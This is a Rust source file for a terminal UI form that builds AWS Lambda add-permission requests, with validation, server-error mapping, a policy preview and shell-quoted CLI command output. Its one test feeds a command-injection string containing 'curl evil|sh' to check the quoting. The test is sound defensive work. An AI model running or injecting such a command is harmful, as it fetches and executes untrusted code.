//! The add-permission form: its fields, what they hold, and what is wrong with them.
//!
//! Every check comes from `src/policy/`: the form only decides where to show it.

use super::target::Target;
use super::write_confirm::WriteConfirm;
use crate::lambda::LambdaError;
use crate::policy::{
    ErrorType, Field, FieldIssue, Lint, PermissionRequest, Preset, lint_request, statement_for,
};
use ratatui_textarea::TextArea;
use std::collections::{BTreeMap, HashMap};

/// The stops of the form, in Tab order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Slot {
    Preset,
    Qualifier,
    Text(Field),
    AuthType,
    InvokedViaUrl,
    Guard,
}

/// The members typed as text: AddPermission's from StatementId to PrincipalOrgId (the
/// function and qualifier are the form's target; the rest are choices).
pub const TEXT_FIELDS: &[Field] = Field::ALL.split_at(2).1.split_at(7).0;

pub const AUTH_TYPES: [Option<&str>; 3] = [None, Some("NONE"), Some("AWS_IAM")];

/// Where the form is: exactly one of these at a time.
#[derive(Debug, Clone, PartialEq)]
pub enum Stage {
    /// The fields are being edited; a question, when asked, is answered by the next key.
    Editing { asking: Option<Question> },
    /// The statement and the CLI command on the whole form, scrolled by this many lines.
    Previewing { scroll: u16 },
    /// The submit dialog is open.
    Confirming(SubmitConfirm),
    /// Sent: waiting for Lambda's answer, the fields kept.
    Submitting,
}

/// What the form asks before it throws away what was typed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Question {
    /// Esc on a changed form: a second Esc discards it.
    Discard,
    /// ← or → on the preset over typed text: a second press replaces it.
    ReplaceTyped,
}

#[derive(Debug, Clone, PartialEq)]
pub struct SubmitConfirm {
    /// Cancel first, and the function's name to type for a public grant.
    pub confirm: WriteConfirm,
    /// Opened from the preview (scrolled this far): cancelling goes back to it.
    pub back_to_preview: Option<u16>,
}

#[derive(Debug, Clone)]
pub struct AddForm {
    pub function: String,
    /// `None` is the function itself; `$LATEST` is never offered (AWS refuses it).
    pub qualifiers: Vec<Option<String>>,
    pub qualifier_index: usize,
    pub preset_index: usize,
    /// Which statement of a multi-statement preset (a public URL has two).
    pub preset_statement: usize,
    pub preset_title: String,
    pub preset_total: usize,
    pub inputs: Vec<(Field, TextArea<'static>)>,
    pub auth_type_index: usize,
    pub invoked_via_url: bool,
    pub guard: bool,
    /// The policy's revision when the form opened (or was reloaded).
    pub revision_id: Option<String>,
    pub existing_sids: Vec<String>,
    pub account: Option<String>,
    /// Values the app already knows for placeholders (`<region>`, `<account>`).
    pub known_values: BTreeMap<String, String>,
    pub focus: Slot,
    /// Errors the server sent, per field, until the field is edited.
    pub server_errors: HashMap<Field, String>,
    /// A server error that belongs to no one field.
    pub form_error: Option<String>,
    pub stale_revision: bool,
    pub stage: Stage,
    pub dirty: bool,
    /// Text was typed since the preset was applied: changing the preset asks first.
    pub typed_since_preset: bool,
    /// The policy of the target is loading: its revision and Sids are not known yet.
    pub policy_loading: bool,
}

fn text_area(value: &str) -> TextArea<'static> {
    let mut area = TextArea::new(vec![value.to_string()]);
    area.move_cursor(ratatui_textarea::CursorMove::End);
    area
}

impl AddForm {
    pub fn is_submitting(&self) -> bool {
        self.stage == Stage::Submitting
    }

    /// Whether `question` is being asked.
    pub fn asking(&self, question: Question) -> bool {
        self.stage
            == Stage::Editing {
                asking: Some(question),
            }
    }

    pub fn confirm(&self) -> Option<&SubmitConfirm> {
        match &self.stage {
            Stage::Confirming(confirm) => Some(confirm),
            _ => None,
        }
    }

    /// The preview's scroll, when the preview fills the form.
    pub fn preview_scroll(&self) -> Option<u16> {
        match self.stage {
            Stage::Previewing { scroll } => Some(scroll),
            _ => None,
        }
    }

    pub fn new(
        target: &Target,
        qualifiers: Vec<Option<String>>,
        presets: &[Preset],
        revision_id: Option<String>,
        existing_sids: Vec<String>,
        account: Option<String>,
        region: &str,
    ) -> AddForm {
        let mut known_values = BTreeMap::from([("region".to_string(), region.to_string())]);
        if let Some(account) = &account {
            for name in ["account", "bucket-owner-account"] {
                known_values.insert(name.to_string(), account.clone());
            }
        }
        let qualifier_index = qualifiers
            .iter()
            .position(|q| *q == target.qualifier)
            .unwrap_or(0);
        let mut form = AddForm {
            function: target.function.clone(),
            qualifiers,
            qualifier_index,
            preset_index: 0,
            preset_statement: 0,
            preset_title: String::new(),
            preset_total: 0,
            inputs: TEXT_FIELDS.iter().map(|f| (*f, text_area(""))).collect(),
            auth_type_index: 0,
            invoked_via_url: false,
            guard: true,
            revision_id,
            existing_sids,
            account,
            known_values,
            focus: Slot::Preset,
            server_errors: HashMap::new(),
            form_error: None,
            stale_revision: false,
            stage: Stage::Editing { asking: None },
            dirty: false,
            typed_since_preset: false,
            policy_loading: false,
        };
        form.apply_preset(presets, 0);
        form
    }

    /// Takes the revision and the Sids of the target's policy, as just loaded.
    pub fn take_policy(&mut self, policy: &crate::lambda::FunctionPolicy) {
        self.revision_id = policy.revision_id.clone();
        self.existing_sids = policy
            .document
            .as_ref()
            .map(|d| d.sids().map(str::to_string).collect())
            .unwrap_or_default();
        self.policy_loading = false;
        self.stale_revision = false;
        self.server_errors.remove(&Field::RevisionId);
    }

    pub fn target(&self) -> Target {
        Target::new(
            self.function.clone(),
            self.qualifiers.get(self.qualifier_index).cloned().flatten(),
        )
    }

    pub fn slots(&self) -> Vec<Slot> {
        let mut slots = vec![Slot::Preset, Slot::Qualifier];
        slots.extend(TEXT_FIELDS.iter().map(|f| Slot::Text(*f)));
        slots.extend([Slot::AuthType, Slot::InvokedViaUrl, Slot::Guard]);
        slots
    }

    pub fn text(&self, field: Field) -> String {
        self.inputs
            .iter()
            .find(|(f, _)| *f == field)
            .map(|(_, a)| a.lines().join(""))
            .unwrap_or_default()
    }

    pub fn input_mut(&mut self, field: Field) -> Option<&mut TextArea<'static>> {
        self.inputs
            .iter_mut()
            .find(|(f, _)| *f == field)
            .map(|(_, a)| a)
    }

    /// Moves to a field; a placeholder in it is selected, so typing replaces it.
    pub fn focus_slot(&mut self, slot: Slot) {
        self.focus = slot;
        if let Slot::Text(field) = slot
            && let Some(area) = self.input_mut(field)
        {
            let text = area.lines().join("");
            if let Some(found) = crate::policy::placeholder::first(&text) {
                let start_col = text[..found.span.start].chars().count() as u16;
                let end_col = text[..found.span.end].chars().count() as u16;
                area.cancel_selection();
                area.move_cursor(ratatui_textarea::CursorMove::Jump(0, start_col));
                area.start_selection();
                area.move_cursor(ratatui_textarea::CursorMove::Jump(0, end_col));
            }
        }
    }

    pub fn set_text(&mut self, field: Field, value: &str) {
        if let Some(area) = self.input_mut(field) {
            *area = text_area(value);
        }
    }

    /// Fills the fields from a preset statement; the Sid is made unique among the policy's.
    pub fn apply_preset(&mut self, presets: &[Preset], statement: usize) {
        let Some(preset) = presets.get(self.preset_index) else {
            return;
        };
        self.preset_statement = statement.min(preset.statements.len().saturating_sub(1));
        self.preset_title = preset.title.clone();
        self.preset_total = preset.statements.len();
        let request = preset.request(self.preset_statement, &self.known_values);
        self.load(&request);
    }

    /// Fills the fields with `request` (a lint's fix), and the preset line names what the form
    /// is for; leaving it asks first, as after typing.
    pub fn fill_with(&mut self, request: &PermissionRequest, title: &str) {
        self.load(request);
        self.preset_title = title.to_string();
        self.typed_since_preset = true;
        self.dirty = true;
    }

    /// Every field from `request` (what it leaves out is cleared, the Sid made unique), and no
    /// error left from before.
    fn load(&mut self, request: &PermissionRequest) {
        for &field in TEXT_FIELDS {
            let value = request.text(field).unwrap_or_default().to_string();
            let value = if field == Field::StatementId {
                self.unique_sid(&value)
            } else {
                value
            };
            self.set_text(field, &value);
        }
        self.auth_type_index = AUTH_TYPES
            .iter()
            .position(|a| *a == request.function_url_auth_type.as_deref())
            .unwrap_or(0);
        self.invoked_via_url = request.invoked_via_function_url == Some(true);
        self.server_errors.clear();
        self.form_error = None;
    }

    /// `base`, or `base-2`, `base-3`… whichever the policy does not have yet.
    pub fn unique_sid(&self, base: &str) -> String {
        if base.is_empty() || crate::policy::placeholder::contains(base) {
            return base.to_string();
        }
        crate::policy::lint_fix::unique_sid(base, self.existing_sids.iter().map(String::as_str))
    }

    /// The request the form stands for right now.
    pub fn request(&self) -> PermissionRequest {
        let mut request = PermissionRequest {
            function_name: Some(self.function.clone()),
            qualifier: self.target().qualifier,
            ..Default::default()
        };
        for &field in TEXT_FIELDS {
            request.set_text(field, self.text(field).trim());
        }
        request.function_url_auth_type = AUTH_TYPES[self.auth_type_index].map(str::to_string);
        request.invoked_via_function_url = self.invoked_via_url.then_some(true);
        request.revision_id = if self.guard {
            self.revision_id.clone()
        } else {
            None
        };
        request
    }

    /// Every problem, by field: the policy rules, a Sid already taken, and the server's word.
    pub fn issues(&self) -> Vec<FieldIssue> {
        let request = self.request();
        let mut issues = request.validate();
        if let Some(sid) = request.statement_id.as_deref()
            && self.existing_sids.iter().any(|s| s == sid)
        {
            issues.push(FieldIssue {
                field: Field::StatementId,
                message: format!("the policy already has a statement '{sid}': choose another id"),
                kind: crate::policy::IssueKind::Local,
            });
        }
        for (field, message) in &self.server_errors {
            if !issues.iter().any(|i| i.field == *field) {
                issues.push(FieldIssue {
                    field: *field,
                    message: message.clone(),
                    kind: crate::policy::IssueKind::Local,
                });
            }
        }
        issues
    }

    pub fn issue_for(&self, field: Field) -> Option<String> {
        self.issues()
            .into_iter()
            .find(|i| i.field == field)
            .map(|i| i.message)
    }

    pub fn lints(&self) -> Vec<Lint> {
        lint_request(&self.request(), self.account.as_deref())
    }

    /// What the grant adds beyond the account: what its confirmation asks.
    pub fn access(&self) -> crate::policy::AccessChange {
        let sid = self.request().statement_id.unwrap_or_default();
        crate::policy::AccessChange::of_lints(&sid, &self.lints())
    }

    /// The field of a slot, for errors shown on choices.
    pub fn slot_field(slot: Slot) -> Option<Field> {
        match slot {
            Slot::Qualifier => Some(Field::Qualifier),
            Slot::Text(f) => Some(f),
            Slot::AuthType => Some(Field::FunctionUrlAuthType),
            Slot::InvokedViaUrl => Some(Field::InvokedViaFunctionUrl),
            Slot::Guard => Some(Field::RevisionId),
            Slot::Preset => None,
        }
    }

    pub fn slot_of(field: Field) -> Slot {
        match field {
            Field::Qualifier | Field::FunctionName => Slot::Qualifier,
            Field::FunctionUrlAuthType => Slot::AuthType,
            Field::InvokedViaFunctionUrl => Slot::InvokedViaUrl,
            Field::RevisionId => Slot::Guard,
            other => Slot::Text(other),
        }
    }

    /// The statement Lambda will write, pretty-printed.
    pub fn preview_statement(&self, context_arn: &str) -> String {
        let statement = statement_for(&self.request(), context_arn);
        serde_json::to_string_pretty(&statement).unwrap_or_default()
    }

    /// The equivalent AWS CLI command.
    /// The same request with the AWS CLI, pointed at the same place as the app (`context`).
    pub fn cli_command(&self, context: &crate::session::Context) -> String {
        let request = self.request();
        let mut parts = vec![
            "aws lambda add-permission".to_string(),
            format!("--function-name {}", crate::shell::word(&self.function)),
        ];
        if let Some(q) = &request.qualifier {
            parts.push(format!("--qualifier {}", crate::shell::word(q)));
        }
        for &field in TEXT_FIELDS {
            if let Some(value) = request.text(field) {
                parts.push(format!("{} {}", field.flag(), crate::shell::word(value)));
            }
        }
        if let Some(kind) = &request.function_url_auth_type {
            parts.push(format!("--function-url-auth-type {kind}"));
        }
        if request.invoked_via_function_url == Some(true) {
            parts.push("--invoked-via-function-url".into());
        }
        if let Some(revision) = &request.revision_id {
            parts.push(format!("--revision-id {}", crate::shell::word(revision)));
        }
        parts.extend(context.cli_flags());
        parts.join(" ")
    }

    /// Puts a server error on the field it concerns; what concerns no field goes on the form.
    pub fn apply_server_error(&mut self, error: &LambdaError) {
        self.server_errors.clear();
        self.form_error = None;
        let Some(aws) = error.aws() else {
            self.form_error = Some(error.to_string());
            return;
        };
        let id = aws
            .request_id
            .as_deref()
            .map(|r| format!(" (request id {r})"))
            .unwrap_or_default();
        let concerns = crate::policy::error_field::fields_of(aws.known, &aws.message);
        if concerns.is_empty() {
            self.form_error = Some(match aws.known {
                Some(ErrorType::PolicyLengthExceeded) => {
                    format!("{}: remove statements or shorten this one{id}", aws.message)
                }
                _ => format!("{}: {}{id}", aws.code, aws.message),
            });
            return;
        }
        for (field, text) in concerns {
            let shown = match field {
                Field::StatementId if aws.known == Some(ErrorType::ResourceConflict) => {
                    if let Some(sid) = self.request().statement_id {
                        self.existing_sids.push(sid);
                    }
                    format!("taken: {text}")
                }
                Field::RevisionId if aws.known == Some(ErrorType::PreconditionFailed) => {
                    self.stale_revision = true;
                    "the policy changed since it was shown: Ctrl-R reloads it, your entries stay"
                        .into()
                }
                _ => text,
            };
            self.server_errors.insert(field, shown);
        }
        if let Some(field) = self.server_errors.keys().min().copied() {
            self.focus = Self::slot_of(field);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_hostile_revision_stays_one_word_of_the_cli_command() {
        let presets = crate::policy::builtin_presets().unwrap();
        let hostile = "x;curl evil|sh $(id) `id`";
        let form = AddForm::new(
            &Target::new("f", None),
            vec![None],
            &presets,
            Some(hostile.into()),
            Vec::new(),
            Some("123456789012".into()),
            "us-east-1",
        );
        let context = crate::session::Context {
            profile: Some("dev ops".into()),
            region: "us-east-1".into(),
            endpoint: "http://127.0.0.1:9777".into(),
            endpoint_url: "http://127.0.0.1:9777".into(),
            credentials: "env".into(),
            account: None,
            demo: false,
        };
        let words = shlex::split(&form.cli_command(&context)).expect("the command is well quoted");
        let at = words.iter().position(|w| w == "--revision-id").unwrap();
        assert_eq!(words[at + 1], hostile);
        let value = |flag: &str| &words[words.iter().position(|w| w == flag).unwrap() + 1];
        assert_eq!(value("--region"), "us-east-1");
        assert_eq!(value("--profile"), "dev ops");
        assert_eq!(value("--endpoint-url"), "http://127.0.0.1:9777");
        let aws = crate::session::Context {
            profile: None,
            endpoint: "https://lambda.us-east-1.amazonaws.com".into(),
            endpoint_url: "https://lambda.us-east-1.amazonaws.com".into(),
            credentials: "env".into(),
            ..context
        };
        let command = form.cli_command(&aws);
        assert!(!command.contains("--endpoint-url") && !command.contains("--profile"));
    }
}
